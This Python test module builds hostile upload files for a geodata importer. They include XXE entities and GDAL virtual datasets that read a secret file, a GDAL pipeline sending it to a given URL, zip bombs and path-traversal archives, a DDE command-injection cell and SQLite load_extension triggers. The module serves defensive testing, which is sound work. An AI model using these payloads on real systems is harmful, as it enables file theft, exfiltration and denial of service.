"""Files that an attacker sends: each is made in a folder, beside a secret file and a server that must not be asked.

ATTACKS[name].make(room, secret, url) -> the file or folder to import. All that stands in them is invented.
"""

import sqlite3
import struct
import zipfile
import zlib
from pathlib import Path

from tests.files import make_originals
from tests.files.attacking import ATTACKS, attack, written, zipped

__all__ = ["ATTACKS"]
MARKS = '<?xml version="1.0" encoding="UTF-8"?>'
HEADER = "id,name,kind,lat,lon,people,seen,note\n"
PLACE = '<Placemark><name>x</name><description/><Point><coordinates>36.2765,33.5131</coordinates></Point></Placemark>'


def virtual(secret: Path) -> str:
    return (f'<OGRVRTDataSource><OGRVRTLayer name="secret"><SrcDataSource>{secret}</SrcDataSource><SrcLayer>secret</SrcLayer>'
            '<GeometryType>wkbPoint</GeometryType></OGRVRTLayer></OGRVRTDataSource>')


def _disguised(ending: str, format: str):
    def make(room, secret, url):
        return written(room / f"x.{ending}", virtual(secret))
    make.__name__ = f"vrt_as_{ending}"
    attack(1, format, "not_this_format", f"a virtual dataset of GDAL under the name x.{ending}")(make)


for _ending, _format in (("geojson", "geojson"), ("kml", "kml"), ("csv", "csv"), ("zip", "shapefile"), ("gpkg", "geopackage"),
                         ("xlsx", "xlsx"), ("kmz", "kml")):
    _disguised(_ending, _format)


@attack(1, "shapefile", "not_this_format", "a virtual dataset as the .shp of a layer")
def vrt_as_shp(room, secret, url):
    for one in make_originals.layer(room / "given", "x"):
        if one.suffix == ".shp":
            written(one, virtual(secret))
    return room / "given"


@attack(1, "shapefile", "not_this_format", "a virtual dataset as the .shp of a layer in a zip")
def vrt_in_a_zip(room, secret, url):
    parts = {one.name: one.read_bytes() for one in make_originals.layer(room / "x", "x")} | {"x.shp": virtual(secret).encode()}
    return zipped(room / "x.zip", parts.items())


@attack(2, "geojson", "not_this_format", "the description of a web feature service as .geojson")
def service_as_geojson(room, secret, url):
    return written(room / "x.geojson", f"<OGRWFSDataSource><URL>{url}/wfs?service=WFS</URL></OGRWFSDataSource>")


@attack(2, "kml", "not_this_format", "the description of a web feature service as .kml")
def service_as_kml(room, secret, url):
    return written(room / "x.kml", f"<OGRWFSDataSource><URL>{url}/wfs</URL></OGRWFSDataSource>")


@attack(3, "geojson", "not_this_format", "a pipeline of GDAL as .geojson")
def pipeline_as_geojson(room, secret, url):
    return written(room / "x.geojson", '{"type": "gdal_streamed_alg", "command_line": "gdal vector pipeline read '
                                       f'{secret} ! write /vsicurl/{url}/x.geojson"}}')


@attack(4, "kml", None, "network links, icons and overlays to another host and to files")
def links_in_kml(room, secret, url):
    return written(room / "x.kml", f"""{MARKS}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>
      <Style id="a"><IconStyle><Icon><href>{url}/icon.png</href></Icon></IconStyle></Style>
      <NetworkLink><Link><href>{url}/more.kml</href></Link></NetworkLink>
      <NetworkLink><Link><href>file://{secret}</href></Link></NetworkLink>
      <GroundOverlay><Icon><href>file://{secret}</href></Icon></GroundOverlay>{PLACE}</Document></kml>""")


@attack(5, "kml", "bad_archive", "an external entity that is a file")
def entity_of_a_file(room, secret, url):
    return written(room / "x.kml", f'{MARKS}<!DOCTYPE k [<!ENTITY e SYSTEM "file://{secret}">]><kml><Document><name>&e;</name>'
                                   f'{PLACE}</Document></kml>')


@attack(5, "kml", "bad_archive", "an external document type of another host, in an archive and in UTF-16")
def entity_of_a_host(room, secret, url):
    return zipped(room / "x.kmz", [("doc.kml", f'{MARKS}<!DOCTYPE k SYSTEM "{url}/k.dtd"><kml>{PLACE}</kml>'.encode("utf-16"))])


@attack(5, "xlsx", "bad_archive", "an external entity in the shared strings of a workbook")
def entity_in_a_workbook(room, secret, url):
    words = f'{MARKS}<!DOCTYPE s [<!ENTITY e SYSTEM "file://{secret}">]><sst><si><t>&e;</t></si></sst>'
    make_originals.change(make_originals.HERE / "two_sheets.xlsx", room / "x.xlsx", {"xl/sharedStrings.xml": words.encode()})
    return room / "x.xlsx"


@attack(6, "kml", "bad_archive", "entities that multiply a thousand million times")
def a_billion_laughs(room, secret, url):
    steps = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return written(room / "x.kml", f'{MARKS}<!DOCTYPE k [<!ENTITY l0 "lol">{steps}]><kml><name>&l9;</name></kml>')


@attack(6, "kml", "bad_archive", "one long entity named ten thousand times")
def quadratic_entities(room, secret, url):
    return written(room / "x.kml", f'{MARKS}<!DOCTYPE k [<!ENTITY l "{"x" * 50_000}">]><kml><name>{"&l;" * 10_000}</name></kml>')


@attack(7, "kml", "too_large", "an archive of zeros that grows a thousandfold")
def zeros_in_a_kmz(room, secret, url):
    return zipped(room / "x.kmz", [("doc.kml", b"\0" * 200_000_000)])


@attack(7, "kml", "not_this_format", "archives within archives")
def nested_archives(room, secret, url):
    inner = zipped(room / "inner.zip", [(f"{n}.zip", b"\0" * 1_000_000) for n in range(16)]).read_bytes()
    return zipped(room / "x.kmz", [(f"lib {n}.zip", inner) for n in range(16)])


@attack(7, "shapefile", "too_large", "members of an archive that overlap: one stretch of bytes, listed a thousand times")
def overlapping_members(room, secret, url):
    plain = b"\0" * 4_000_000
    packer = zlib.compressobj(9, wbits=-15)
    packed, crc, name = packer.compress(plain) + packer.flush(), zlib.crc32(plain), b"0000.shp"
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(packed), len(plain), len(name), 0) + name
    listed = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 0, crc, len(packed), len(plain), len(name), 0, 0, 0, 0, 0, 0)
        + f"{n:04}.shp".encode() for n in range(1_000))
    body = local + packed
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 1_000, 1_000, len(listed), len(body), 0)
    return written(room / "x.zip", body + listed + end)


@attack(8, "shapefile", "too_large", "an archive of a hundred thousand files")
def many_members(room, secret, url):
    return zipped(room / "x.zip", ((f"{n}.shp", b"") for n in range(65_000)), zipfile.ZIP_STORED)


@attack(8, "shapefile", "bad_archive", "an archive that climbs out of its folder")
def climbing_members(room, secret, url):
    return zipped(room / "x.zip", [("../../x.shp", b"x"), ("a.shp", b"x")])


@attack(8, "shapefile", "bad_archive", "an archive that holds a link to the secret")
def linked_member(room, secret, url):
    link = zipfile.ZipInfo("a.shp")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(room / "x.zip", "w") as bundle:
        bundle.writestr(link, str(secret))
    return room / "x.zip"


@attack(9, "xlsx", "too_large", "shared strings that grow a thousandfold")
def shared_strings_bomb(room, secret, url):
    words = MARKS + "<sst><si><t>" + "A" * 150_000_000 + "</t></si></sst>"
    make_originals.change(make_originals.HERE / "two_sheets.xlsx", room / "x.xlsx", {"xl/sharedStrings.xml": words.encode()})
    return room / "x.xlsx"


@attack(9, "xlsx", "macros", "a workbook with macros")
def macros(room, secret, url):
    make_originals.change(make_originals.HERE / "two_sheets.xlsx", room / "x.xlsx", {"xl/vbaProject.bin": b"synthetic"})
    return room / "x.xlsx"


@attack(9, "xlsx", None, "a workbook that links to another file and to another host, with a command in a cell")
def linked_workbook(room, secret, url):
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(HEADER.strip().split(","))
    book.active.append(["1", "=cmd|' /C calc'!A0", "prison", "33.5131", "36.2765", "", "", f"='file://{secret}'#$Sheet1.A1"])
    book.active.append(["2", f'=WEBSERVICE("{url}/x")', "prison", "33.5131", "36.2765", "", "", ""])
    book.save(room / "plain.xlsx")
    link = (f'{MARKS}<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>')
    target = (f'{MARKS}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
              'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
              f'Target="{url}/other.xlsx" TargetMode="External"/></Relationships>')
    make_originals.change(room / "plain.xlsx", room / "x.xlsx", {
        "xl/externalLinks/externalLink1.xml": link.encode(), "xl/externalLinks/_rels/externalLink1.xml.rels": target.encode()})
    return room / "x.xlsx"


@attack(10, "csv", "too_large", "a cell of ten megabytes")
def a_cell_of_ten_megabytes(room, secret, url):
    return written(room / "x.csv", HEADER + "1," + "x" * 10_000_000 + "\n")


@attack(10, "csv", "too_large", "fifty thousand columns")
def fifty_thousand_columns(room, secret, url):
    return written(room / "x.csv", ",".join(f"c{n}" for n in range(50_000)) + "\n")


@attack(10, "csv", "unreadable", "a quotation mark that is never closed: the rest of the file is one cell")
def open_quotation_mark(room, secret, url):
    return written(room / "x.csv", HEADER + '1,"x,prison,33.5,36.2,,,\n' + "2,y,prison,33.5,36.2,,,\n" * 1_000)


@attack(11, "geojson", "unreadable", "arrays a hundred thousand deep")
def deep_arrays(room, secret, url):
    return written(room / "x.geojson", '{"type": "FeatureCollection", "features": ' + "[" * 100_000 + "]" * 100_000 + "}")


@attack(11, "geojson", "too_large", "a shape of five million corners")
def five_million_corners(room, secret, url):
    ring = ",".join(["[1,2]"] * 5_000_000)
    return written(room / "x.geojson", '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},"geometry":'
                                       f'{{"type":"LineString","coordinates":[{ring}]}}}}]}}')


@attack(16, "shapefile", "unreadable", "a .shp whose header says two gigabytes and whose rows lie")
def lying_header(room, secret, url):
    for one in make_originals.layer(room / "given", "x"):
        data = bytearray(one.read_bytes())
        if one.suffix == ".shp":
            data[24:28] = (0x7FFFFFFF).to_bytes(4, "big")
            data[104:108] = (0x7FFFFFF0).to_bytes(4, "big")
        elif one.suffix == ".dbf":
            data[4:8] = (0x7FFFFFFF).to_bytes(4, "little")
        one.write_bytes(data)
    return room / "given"


@attack(18, "picture", "too_large", "a picture of 60,000 by 60,000 pixels in a few bytes")
def pixel_flood(room, secret, url):
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    parts = ((b"IHDR", header), (b"IDAT", zlib.compress(b"\0" * 10_000)), (b"IEND", b""))
    return written(room / "x.png", b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in parts))


@attack(18, "picture", "unreadable", "a TIFF whose directories lead in a circle")
def circle_of_directories(room, secret, url):
    return written(room / "x.png", b"II*\0\x08\0\0\0" + struct.pack("<HHHIII", 1, 256, 4, 1, 60_000, 8))


@attack(19, "picture", "unreadable", "an SVG with a script and a link, as a picture")
def drawing_with_a_script(room, secret, url):
    return written(room / "x.png", f'<svg xmlns="http://www.w3.org/2000/svg"><script>x</script><image href="{url}/x.png"/></svg>')


@attack(22, "picture", "unreadable", "an archive under the name of a picture")
def archive_as_a_picture(room, secret, url):
    return zipped(room / "x.png", [("a.txt", "x")])


@attack(22, "csv", "not_this_format", "a PDF with an archive behind it, as a table")
def pdf_as_a_table(room, secret, url):
    return written(room / "x.csv", b"%PDF-1.4\n" + zipped(room / "inner.zip", [("a.txt", "x")]).read_bytes())


@attack(17, "geopackage", None, "a package with a trigger that attaches the secret and a view that loads code")
def package_that_acts(room, secret, url):
    make_originals.package(room / "x.gpkg", more=f"""
        create view seen as select load_extension('{secret}') from places;
        insert into gpkg_contents(table_name, data_type, srs_id) values ('seen', 'attributes', 0);
        create trigger acts after update on places begin select load_extension('{secret}'); end;""")
    return room / "x.gpkg"


@attack(17, "geopackage", "unreadable", "a package whose table is a virtual table of a module")
def package_of_modules(room, secret, url):
    make_originals.package(room / "x.gpkg")
    with sqlite3.connect(room / "x.gpkg") as source:
        source.executescript("create virtual table words using fts5(x); alter table places rename to hidden;"
                             "pragma writable_schema = on; update sqlite_master set sql = replace(sql, 'fts5', 'nothing')"
                             " where name = 'words'; insert into gpkg_contents(table_name, data_type, srs_id) values"
                             " ('words', 'attributes', 0);")
    source.close()
    return room / "x.gpkg"


@attack(17, "geopackage", "unreadable", "a package with a page that is broken")
def broken_page(room, secret, url):
    make_originals.package(room / "x.gpkg")
    data = bytearray((room / "x.gpkg").read_bytes())
    for at in range(4096, len(data), 4096):
        data[at:at + 200] = b"\xff" * 200
    return written(room / "x.gpkg", bytes(data))
